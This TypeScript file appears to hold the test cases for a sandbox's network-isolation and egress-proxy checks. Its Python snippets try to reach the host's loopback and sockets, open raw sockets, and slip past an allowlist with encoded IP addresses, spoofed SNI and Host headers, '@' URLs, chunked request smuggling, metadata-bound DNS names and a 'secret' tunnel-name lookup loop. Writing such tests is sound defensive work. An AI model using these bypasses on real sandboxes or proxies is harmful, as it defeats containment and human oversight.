/** Where a canary is let in: an environment with a bridge, one behind a proxy that lets everything through, or this machine itself. */
export type Canary = 'open' | 'naive' | 'host';

export interface Attempt {
  readonly what: string;
  readonly canary: Canary;
  /** Python; what got out prints "canary". GATEWAY, PORT, ABSTRACT and OTHER are set. */
  readonly script: string;
}

/** What every script begins with. */
export const prelude = `
import os, socket, ssl, sys
socket.setdefaulttimeout(5)
TEXT = b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n'
def rest(s):
    data = b''
    try:
        while True:
            more = s.recv(65536)
            if not more: break
            data += more
    except OSError: pass
    return data.decode('latin1')
def direct(address, port, family=socket.AF_INET):
    s = socket.socket(family); s.connect((address, port)); s.sendall(TEXT); print(rest(s))
def proxy():
    s = socket.socket(); s.connect(('127.0.0.1', 3128)); return s
def ask(request):
    s = proxy(); s.sendall(request.encode('latin1')); print(rest(s))
def through(target, server='allowed.example', host=None, plain=False):
    s = proxy(); s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, host or target)).encode())
    head = s.recv(4096).decode('latin1')
    if ' 200 ' not in head: print(head); return
    if plain: s.sendall(TEXT); print(rest(s)); return
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    t = context.wrap_socket(s, server_hostname=server); t.sendall(TEXT); print(rest(t))
`;

const tunnels: readonly (readonly [string, string])[] = [
  ['an IPv4 address', "through('93.184.216.34:443')"],
  ['an address in decimal', "through('1572395042:443')"],
  ['an address in hexadecimal', "through('0x5db8d822:443')"],
  ['an address in octal', "through('0135.0270.0330.042:443')"],
  ['an IPv6 address', "through('[2606:2800:220:1::1]:443')"],
  ['an IPv4 address as IPv6', "through('[::ffff:93.184.216.34]:443')"],
  ['a host that is not listed', "through('other.example:443', 'other.example')"],
  ['a host that begins like a listed one', "through('allowed.example.other.example:443')"],
  ['another port of a listed host', "through('allowed.example:22', plain=True)"],
  ['a handshake that names another host', "through('allowed.example:443', 'other.example')"],
  ['a handshake that names no host', "through('allowed.example:443', None)"],
  ['no TLS at all', "through('allowed.example:443', plain=True)"],
  ['another host in the header', "through('allowed.example:443', host='other.example:443')"],
  ['a listed name that leads to a cloud’s metadata', "through('metadata.allowed.example:443')"],
  ['a listed name that leads to this machine', "through('loopback.allowed.example:443')"],
  ['a listed name that leads to a private network and to a public one', "through('mixed.allowed.example:443')"],
];

const requests: readonly (readonly [string, string])[] = [
  [
    'plain http to another host',
    "'GET http://other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n'",
  ],
  [
    'plain http with another Host',
    "'GET http://allowed.example/ HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n'",
  ],
  [
    'a request in the body of another',
    "'POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'",
  ],
  [
    'a host before an @',
    "'GET http://allowed.example@other.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n'",
  ],
  [
    'plain http to another port',
    "'GET http://allowed.example:8080/ HTTP/1.1\\r\\nHost: allowed.example:8080\\r\\nConnection: close\\r\\n\\r\\n'",
  ],
];

const outOfTheSandbox: readonly Attempt[] = [
  {what: 'the host by its gateway', canary: 'open', script: 'direct(GATEWAY, PORT)'},
  {
    what: 'the host’s name server, or any tunnel over datagrams',
    canary: 'open',
    // A datagram may be lost, above all while other containers come and go on the bridge.
    script: `s = socket.socket(type=socket.SOCK_DGRAM)
s.settimeout(0.3)
for _ in range(15):
  try:
    s.sendto(b'x', (GATEWAY, PORT))
    print(s.recv(100))
    break
  except OSError as error:
    print(error)`,
  },
  {what: 'a service on the host’s loopback', canary: 'host', script: "direct('127.0.0.1', PORT)"},
  {
    what: 'a service on the host’s loopback over IPv6',
    canary: 'host',
    script: "direct('::1', PORT, socket.AF_INET6)",
  },
  {
    what: 'a device to the outside',
    canary: 'open',
    script: "print('canary' if [one for one in os.listdir('/sys/class/net') if one != 'lo'] else 'none')",
  },
  {
    what: 'a route to the outside',
    canary: 'open',
    script: "print('canary' if len(open('/proc/net/route').readlines()) > 1 else 'none')",
  },
  {
    what: 'an abstract socket of the host',
    canary: 'host',
    script: "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + ABSTRACT); print(rest(s))",
  },
  {
    what: 'the proxy of another session',
    canary: 'host',
    script:
      "s = socket.socket(socket.AF_UNIX); s.connect(OTHER); s.sendall(b'GET http://other.example/ HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n'); print(rest(s))",
  },
  {
    what: 'a raw socket',
    canary: 'host',
    script: "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('canary')",
  },
  {
    what: 'a packet socket',
    canary: 'host',
    script: "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); print('canary')",
  },
];

/** Ways out of a sandbox that may reach allowed.example and what is below it. */
export const attempts: readonly Attempt[] = [
  ...outOfTheSandbox,
  ...tunnels.map(([what, script]) => ({what: `a tunnel with ${what}`, canary: 'naive' as const, script})),
  ...requests.map(([what, text]) => ({what, canary: 'naive' as const, script: `ask(${text})`})),
  {
    what: 'names looked up one after another',
    canary: 'naive',
    script:
      "for n in range(20):\n    s = proxy(); s.sendall(b'CONNECT secret%d.tunnel.example:443 HTTP/1.1\\r\\nHost: secret%d.tunnel.example:443\\r\\n\\r\\n' % (n, n)); print('canary' if b' 200 ' in s.recv(4096) else 'no')",
  },
];
